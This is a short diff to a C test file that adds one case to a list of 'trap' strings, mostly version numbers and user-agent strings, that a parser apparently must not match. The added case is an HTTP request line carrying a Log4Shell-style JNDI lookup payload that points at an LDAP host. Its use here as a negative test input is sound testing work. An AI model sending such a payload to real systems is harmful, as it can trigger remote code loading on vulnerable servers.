@@ -194,6 +194,7 @@ static const Case traps[] = {
     { "Mozilla/5.0 (X11) Chrome/96.0.46.110 Edg/96.0.105.53", "" },
     { "v1.2.3.4", "" },
     { "version 10.0.4.1", "" },
+    { "GET /?x=${jndi:ldap://203.0.113.1/a} HTTP/1.1", "" },
     { "Version: 10.0.4.1", "" },
     { "version=\"10.0.4.1\"", "" },
     { "agent_version: 10.0.4.1", "" },
